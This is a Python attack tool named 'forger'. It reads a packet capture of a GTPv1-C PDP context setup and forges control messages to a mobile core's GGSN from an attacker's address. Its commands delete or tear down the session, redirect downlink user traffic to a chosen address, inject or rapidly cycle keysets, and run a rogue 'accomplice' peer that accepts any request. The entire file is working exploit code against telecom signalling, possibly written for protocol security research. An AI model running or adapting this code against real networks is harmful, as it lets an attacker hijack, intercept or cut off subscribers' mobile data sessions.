#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""forger: somebody in the access network who has seen a Create PDP Context cross, in a capture, and sends GTPv1-C about
that context from an address of his own: to the GGSN, or to an accomplice on the core side. It prints the Cause of each
response, or `none`.
"""

import argparse
import os
import select
import socket
import struct

from frames import GTPC_PORT, Udp, pcap_read
from gsn import (ACCEPTED, CAUSE, CREATE_REQUEST, DELETE_REQUEST, GSN_ADDRESS, NSAPI, TEID_CONTROL, TEID_DATA,
                 UPDATE_REQUEST, gtp, ie, read_gtp, read_ies)

IMSI, TEARDOWN, PCO = 2, 19, 132
ACCOMPLICE_PORT = 9999  # on which he hears whom to answer
KEYSET = bytes.fromhex("80" "ff00" "16" "62f210" "e2" "02" "03") + b"\x5a" * 16  # e2m.md 5: Key ID 3, by a RAND


def gtpc_of(pcap):
    for frame in pcap_read(pcap):
        try:
            udp = Udp(frame)
            if GTPC_PORT in (udp.sport, udp.dport):
                yield read_gtp(udp.data)
        except (ValueError, IndexError, struct.error):
            continue


class Context:
    """What both GSNs have said of it."""

    def __init__(self, pcap):
        for kind, _, _, body in gtpc_of(pcap):
            if kind == CREATE_REQUEST:
                self.sgsn = read_ies(body)
            elif kind == CREATE_REQUEST + 1:
                self.ggsn_control = struct.unpack(">I", read_ies(body)[TEID_CONTROL][0])[0]


def delete(context, args):
    body = ie(TEARDOWN, b"\xff") if args.teardown else b""
    return DELETE_REQUEST, body + ie(NSAPI, context.sgsn[NSAPI][0])


def update(context, args):
    user_teid, user = context.sgsn[TEID_DATA][0], context.sgsn[GSN_ADDRESS][1]
    if args.downlink_to:
        user_teid, user = struct.pack(">I", 0x66), socket.inet_aton(args.downlink_to)
    return UPDATE_REQUEST, (
        (ie(IMSI, context.sgsn[IMSI][0]) if args.by_imsi else b"")
        + ie(TEID_DATA, user_teid) + ie(TEID_CONTROL, context.sgsn[TEID_CONTROL][0]) + ie(NSAPI, context.sgsn[NSAPI][0])
        + (ie(PCO, KEYSET) if args.keyset else b"") + ie(GSN_ADDRESS, context.sgsn[GSN_ADDRESS][0]) + ie(GSN_ADDRESS, user))


def ask(s, to, kind, teid, body, sequence):
    """The Cause of its response."""
    s.sendto(gtp(kind, teid, body, sequence), (to, GTPC_PORT))
    if not select.select([s], [], [], 3)[0]:
        return "none"
    answer, _, answered, body = read_gtp(s.recv(65535))
    if (answer, answered) != (kind + 1, sequence):
        raise SystemExit(f"message {answer} with sequence number {answered}")
    return read_ies(body)[CAUSE][0][0]


def command_request(args):
    context = Context(args.pcap)
    kind, body = args.make(context, args)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((args.source, 0))
    if args.accomplice:
        told = f"{s.getsockname()[1]} {args.sequence} {kind + 1} {int.from_bytes(context.sgsn[TEID_CONTROL][0], 'big')}"
        s.sendto(told.encode(), (args.accomplice, ACCOMPLICE_PORT))
        if not select.select([s], [], [], 3)[0]:
            raise SystemExit("nothing of the accomplice")
        s.recv(65535)
    print(ask(s, args.to, kind, 0 if getattr(args, "by_imsi", False) else context.ggsn_control, body, args.sequence))


def command_rekeys(args):
    """Many Updates of the context's own SGSN, one after the other, each with another keyset, which nobody knows."""
    context = Context(args.pcap)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((args.source, 0))
    for i in range(args.count):
        keyset = KEYSET[:-16] + os.urandom(16)
        body = (ie(TEID_DATA, context.sgsn[TEID_DATA][0]) + ie(TEID_CONTROL, context.sgsn[TEID_CONTROL][0])
                + ie(NSAPI, context.sgsn[NSAPI][0]) + ie(PCO, keyset)
                + ie(GSN_ADDRESS, context.sgsn[GSN_ADDRESS][0]) + ie(GSN_ADDRESS, context.sgsn[GSN_ADDRESS][1]))
        ask(s, args.to, UPDATE_REQUEST, context.ggsn_control, body, args.sequence + i)


def accept(s, to, kind, teid, sequence):
    s.sendto(gtp(kind, teid, ie(CAUSE, bytes([ACCEPTED])), sequence), to)


def command_accomplice(args):
    """Accepts whatever he is asked, with the TEID in it, and whatever he is told was asked of another."""
    asked, told = (socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(2))
    asked.bind((args.address, GTPC_PORT))
    told.bind((args.address, ACCOMPLICE_PORT))
    print("ready", flush=True)
    while True:
        for s in select.select([asked, told], [], [])[0]:
            data, peer = s.recvfrom(65535)
            if s is asked:
                kind, _, sequence, body = read_gtp(data)
                teid = read_ies(body).get(TEID_CONTROL, [bytes(4)])[0]
                accept(asked, peer, kind + 1, int.from_bytes(teid, "big"), sequence)
            else:
                port, sequence, kind, teid = map(int, data.split())
                accept(asked, (peer[0], port), kind, teid, sequence)


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    commands = parser.add_subparsers(required=True, metavar="COMMAND")
    for make in (delete, update):
        request = commands.add_parser(make.__name__)
        request.set_defaults(run=command_request, make=make)
        request.add_argument("pcap")
        request.add_argument("source", help="address")
        request.add_argument("to", help="address")
        request.add_argument("sequence", type=int)
        request.add_argument("--accomplice", help="address: he accepts it first, of his own accord")
        if make is delete:
            request.add_argument("--teardown", action="store_true")
        else:
            request.add_argument("--keyset", action="store_true", help="names another one")
            request.add_argument("--by-imsi", action="store_true", help="and no TEID")
            request.add_argument("--downlink-to", help="address")
    rekeys = commands.add_parser("rekeys")
    rekeys.set_defaults(run=command_rekeys)
    rekeys.add_argument("pcap")
    rekeys.add_argument("source", help="address")
    rekeys.add_argument("to", help="address")
    rekeys.add_argument("sequence", type=int, help="of the first")
    rekeys.add_argument("--count", type=int, default=1)
    accomplice = commands.add_parser("accomplice")
    accomplice.set_defaults(run=command_accomplice)
    accomplice.add_argument("address")
    args = parser.parse_args()
    args.run(args)


if __name__ == "__main__":
    main()
